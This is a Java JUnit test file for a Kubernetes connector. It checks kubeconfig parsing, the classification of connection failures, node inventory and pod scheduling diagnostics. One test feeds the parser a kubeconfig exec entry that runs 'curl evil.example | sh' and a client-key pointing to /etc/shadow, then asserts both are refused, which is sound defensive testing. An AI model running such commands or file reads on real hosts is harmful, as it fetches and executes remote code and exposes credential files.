package io.chainline.connector.kubernetes;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.chainline.connector.api.Architecture;
import io.chainline.connector.api.ConnectionCheck;
import io.chainline.connector.api.Connector;
import io.chainline.connector.api.ConnectorException;
import io.chainline.connector.api.DeploymentRef;
import io.chainline.connector.api.DeploymentUnit;
import io.chainline.connector.api.Inventory;
import io.chainline.connector.api.Observation;
import io.chainline.connector.testkit.SampleUnits;
import io.fabric8.kubernetes.api.model.EventBuilder;
import io.fabric8.kubernetes.api.model.PodBuilder;
import java.io.IOException;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.URI;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/** What the contract does not cover: connection failures by class, inventory, runtime classes, operator language. */
class KubernetesConnectorTest {

    private final MockCluster cluster = new MockCluster();
    private final KubernetesConnectorFactory factory = new KubernetesConnectorFactory(Clock.systemUTC());
    private final List<AutoCloseable> open = new ArrayList<>();

    @AfterEach
    void close() throws Exception {
        for (AutoCloseable c : open) {
            c.close();
        }
        cluster.close();
    }

    private Connector pasted(String kubeconfig, Optional<String> context) {
        Connector connector = factory.connect(KubernetesAccess.ofKubeconfig(kubeconfig, context));
        open.add(connector);
        return connector;
    }

    @Test
    void aPastedKubeconfigReachesTheClusterAndListsNodesByArchitecture() {
        Connector connector = pasted(cluster.kubeconfig("t0k3n-SECRET"), Optional.empty());

        ConnectionCheck check = connector.check(Duration.ofSeconds(5));
        Inventory inventory = connector.inventory();

        assertThat(check.ok()).as(check.message()).isTrue();
        assertThat(check.serverVersion()).contains("Kubernetes v1.33.2");
        assertThat(inventory.nodesByArchitecture())
                .containsExactly(java.util.Map.entry("amd64", 2L), java.util.Map.entry("arm64", 1L));
        assertThat(inventory.nodes())
                .filteredOn(n -> n.name().equals("worker-a2"))
                .singleElement()
                .satisfies(n -> {
                    assertThat(n.architecture()).contains(Architecture.AMD64);
                    assertThat(n.reportedArchitecture()).isEqualTo("x86_64");
                    assertThat(n.allocatableMilliCpu()).isEqualTo(3800);
                    assertThat(n.allocatableMemoryBytes()).isEqualTo(15L << 30);
                    assertThat(n.operatingSystem()).isEqualTo("Debian GNU/Linux 13");
                });
        assertThat(inventory.nodes()).filteredOn(Inventory.Node::ready).hasSize(2);
        assertThat(inventory.runtimeClasses()).containsExactly(new Inventory.RuntimeClass("kata-qemu", "kata-qemu"));
        assertThat(connector.capabilities().sandboxedRuntimes()).containsExactly("kata-qemu");
        assertThat(connector.capabilities().architectures())
                .containsExactlyInAnyOrder(Architecture.AMD64, Architecture.ARM64);
    }

    @Test
    void aContextTheKubeconfigLacksIsReportedWithTheOnesItHas() {
        ConnectionCheck check = factory.check(
                KubernetesAccess.ofKubeconfig(cluster.kubeconfig("x"), Optional.of("prod")), Duration.ofSeconds(2));

        assertThat(check.failure()).contains(ConnectionCheck.Failure.WRONG_CONTEXT);
        assertThat(check.message()).contains("no context 'prod'").contains("mock-admin", "other");
    }

    @Test
    void textThatIsNoKubeconfigIsRefusedWithoutEchoingIt() {
        assertThatThrownBy(() -> Kubeconfigs.contexts("token: hunter2-SECRET\n- [ not yaml"))
                .isInstanceOf(ConnectorException.class)
                .hasMessageContaining("not a readable kubeconfig")
                .hasMessageNotContaining("hunter2");
        assertThat(Kubeconfigs.contexts(cluster.kubeconfig("x")))
                .isEqualTo(new Kubeconfigs.Contexts(List.of("mock-admin", "other"), Optional.of("mock-admin")));
    }

    @Test
    void aKubeconfigThatWouldRunCommandsOrReadFilesOnTheConsoleIsRefused() {
        String exec = cluster.kubeconfig("x").replace("    token: x\n", """
                    exec:
                      apiVersion: client.authentication.k8s.io/v1
                      command: /bin/sh
                      args: ["-c", "curl evil.example | sh"]
                """);
        String files = cluster.kubeconfig("x").replace("    token: x\n", "    client-key: /etc/shadow\n");

        assertThatThrownBy(() -> Kubeconfigs.contexts(exec))
                .hasMessageContaining("would run a command on the console's host");
        assertThatThrownBy(() -> Kubeconfigs.contexts(files)).hasMessageContaining("points to files");
        assertThat(Kubeconfigs.server(cluster.kubeconfig("x"), Optional.of("other")))
                .isEqualTo(cluster.server.url("/").replaceAll("/$", ""));
    }

    @Test
    void rejectedCredentialsAreToldApartFromMissingPermissions() throws Exception {
        // fabric8 refreshes the token and retries once on a 401; a bad token fails both times
        cluster.dispatcher.failNext("/api/v1/namespaces?limit=1", 401);
        cluster.dispatcher.failNext("/api/v1/namespaces?limit=1", 401);
        ConnectionCheck unauthorized =
                pasted(cluster.kubeconfig("bad"), Optional.empty()).check(Duration.ofSeconds(5));
        cluster.dispatcher.failNext("/api/v1/namespaces?limit=1", 403);
        ConnectionCheck forbidden =
                pasted(cluster.kubeconfig("weak"), Optional.empty()).check(Duration.ofSeconds(5));

        assertThat(unauthorized.failure()).contains(ConnectionCheck.Failure.UNAUTHORIZED);
        assertThat(unauthorized.message()).contains("rejected the credentials");
        assertThat(forbidden.failure()).contains(ConnectionCheck.Failure.FORBIDDEN);
        assertThat(forbidden.message()).contains("not allowed");
    }

    @Test
    void anUnknownHostARefusedPortAndASilentServerEachSayWhatHappened() throws IOException {
        ConnectionCheck dns = token("https://no-such-cluster.invalid:6443").check(Duration.ofSeconds(10));
        int closed;
        try (ServerSocket probe = new ServerSocket(0)) {
            closed = probe.getLocalPort();
        }
        ConnectionCheck refused = token("https://127.0.0.1:" + closed).check(Duration.ofSeconds(10));
        ConnectionCheck silent;
        try (ServerSocket blackhole = new ServerSocket(0)) {
            List<Socket> accepted = new ArrayList<>();
            Thread.ofVirtual().start(() -> {
                try {
                    while (true) {
                        accepted.add(blackhole.accept());
                    }
                } catch (IOException stopped) {
                    // the test is over
                }
            });
            silent = token("http://127.0.0.1:" + blackhole.getLocalPort()).check(Duration.ofMillis(1500));
        }

        assertThat(dns.failure()).as(dns.message()).contains(ConnectionCheck.Failure.DNS);
        assertThat(dns.message()).contains("does not resolve");
        assertThat(refused.failure()).as(refused.message()).contains(ConnectionCheck.Failure.REFUSED);
        assertThat(silent.failure()).contains(ConnectionCheck.Failure.TIMEOUT);
        assertThat(silent.took()).isLessThan(Duration.ofSeconds(5));
    }

    @Test
    void aServerWhoseCertificateTheCaDoesNotSignFailsTls() {
        var tls = new io.fabric8.kubernetes.client.server.mock.KubernetesMockServer(true);
        tls.init();
        try {
            ConnectionCheck check = token(tls.url("/").replaceAll("/$", "")).check(Duration.ofSeconds(10));

            assertThat(check.failure()).as(check.message()).contains(ConnectionCheck.Failure.TLS);
            assertThat(check.message()).contains("certificate");
        } finally {
            tls.destroy();
        }
    }

    @Test
    void aSandboxedVduIsRefusedWhereTheClusterLacksItsRuntimeClass() {
        Connector connector = pasted(cluster.kubeconfig("t"), Optional.empty());
        cluster.client
                .resources(io.fabric8.kubernetes.api.model.node.v1.RuntimeClass.class)
                .withName("kata-qemu")
                .delete();

        assertThatThrownBy(() -> connector.plan(SampleUnits.vcpe(DeploymentRef.of("d-1"))))
                .isInstanceOfSatisfying(ConnectorException.class, e -> {
                    assertThat(e.reason()).isEqualTo(ConnectorException.Reason.UNSUPPORTED);
                    assertThat(e.retryable()).isFalse();
                })
                .hasMessageContaining("RuntimeClass 'kata-qemu'")
                .hasMessageContaining("shared-kernel isolation");
    }

    @Test
    void anUnschedulablePodIsExplainedAsAMissingArchitecture() {
        Connector connector = pasted(cluster.kubeconfig("t"), Optional.empty());
        DeploymentRef ref = DeploymentRef.of("d-2");
        DeploymentUnit unit = SampleUnits.vcpe(ref);
        connector.apply(unit, Duration.ZERO);
        var firewall = unit.workloads().get(1);
        String scheduler = "0/3 nodes are available: 3 node(s) didn't match Pod's node affinity/selector.";
        cluster.client
                .pods()
                .inNamespace(ref.namespaceOrDefault())
                .resource(new PodBuilder()
                        .withNewMetadata()
                        .withName("firewall-fw-5c9d-abcde")
                        .withLabels(new WorkloadManifests(ref, ref.namespaceOrDefault()).labels(firewall))
                        .endMetadata()
                        .withNewStatus()
                        .withPhase("Pending")
                        .addNewCondition()
                        .withType("PodScheduled")
                        .withStatus("False")
                        .withReason("Unschedulable")
                        .withMessage(scheduler)
                        .endCondition()
                        .endStatus()
                        .build())
                .create();
        cluster.client
                .v1()
                .events()
                .inNamespace(ref.namespaceOrDefault())
                .resource(new EventBuilder()
                        .withNewMetadata()
                        .withName("firewall-fw-5c9d-abcde.1")
                        .endMetadata()
                        .withNewInvolvedObject()
                        .withKind("Pod")
                        .withName("firewall-fw-5c9d-abcde")
                        .withNamespace(ref.namespaceOrDefault())
                        .endInvolvedObject()
                        .withType("Warning")
                        .withReason("FailedScheduling")
                        .withMessage(scheduler)
                        .withLastTimestamp("2026-11-28T07:00:00Z")
                        .build())
                .create();

        Observation seen = connector.observe(ref);

        assertThat(seen.failures()).singleElement().satisfies(f -> {
            assertThat(f.workload()).isEqualTo("firewall-fw");
            assertThat(f.message()).startsWith("No node can run it: no node has a matching architecture");
        });
        assertThat(seen.events()).singleElement().satisfies(e -> {
            assertThat(e.warning()).isTrue();
            assertThat(e.message()).contains("matching architecture");
        });
        var result = connector.apply(unit, Duration.ZERO);
        assertThat(result.allReady()).isFalse();
        assertThat(result.readiness())
                .filteredOn(r -> r.workload().equals("firewall-fw"))
                .singleElement()
                .satisfies(r -> assertThat(r.message()).contains("No node can run it"));
    }

    private Connector token(String server) {
        Connector connector = factory.connect(KubernetesAccess.ofToken(URI.create(server), Optional.empty(), "t0k3n"));
        open.add(connector);
        return connector;
    }
}
